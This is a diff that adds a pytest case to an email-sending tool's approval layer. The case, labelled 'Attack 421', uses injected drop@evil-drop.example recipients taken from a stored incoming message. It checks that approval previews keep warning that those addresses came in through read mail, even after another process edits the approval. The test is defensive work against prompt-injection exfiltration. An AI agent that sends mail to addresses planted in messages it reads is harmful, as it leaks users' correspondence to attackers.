@@ -9,6 +9,7 @@ from typing import Any
 import pytest
 
 from maton_mailgun import heard
+from maton_mailgun.approval.store.record import Record
 
 from .bench import DOMAIN, LETTER, Desk, structured
 from .test_answering import ANSWER, KEY, came_in
@@ -62,6 +63,32 @@ async def test_an_answer_to_who_wrote_is_no_surprise_and_one_to_somebody_named_i
     assert await warned(desk, "send_message", ANSWER) == []
     told = await warned(desk, "send_message", {**ANSWER, "cc": ["drop@evil-drop.example"]})
     assert told == [f"drop@evil-drop.example {CALLED}"]
+
+
+# Attack 421: changed by a process that read nothing ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize("addresses", [1, 8])
+async def test_attack_421_a_change_by_another_process_says_still_where_it_came_in(desk: Desk, addresses: int) -> None:
+    """`approvals edit` and the page that goes on alone have not read that mail."""
+    many = [f"drop{number}@evil-drop.example" for number in range(addresses)]
+    came_in(desk, text=" ".join(many))
+    async with desk.open() as house, house.client() as client:
+        await client.call_tool("get_stored_message", {"domain": DOMAIN, "storage_key": KEY})
+        told = structured(await client.call_tool("send_message", {**LETTER, "to": many}))
+        before = await house.only()
+    async with desk.open() as house:
+        new = await house.gate.edits.edit(told["approval_id"], {"subject": "Hello again"}, "Ana, by passphrase")
+        gone = await house.gate.edits.edit(new.id, {"to": ["bob@example.net"]}, "Ana, by passphrase")
+
+    def says(record: Record) -> list[str]:
+        return [line for line in record.preview["warnings"] if "came in" in line]
+
+    assert [line.partition(" came in ")[0] for line in says(new)] == [
+        line.partition(" came in ")[0] for line in says(before)
+    ]
+    assert len(says(before)) == min(addresses, 6)
+    assert says(gone) == []
 
 
 # Attack 416: hidden by how many there are, or by how it is written -----------------------------------------------
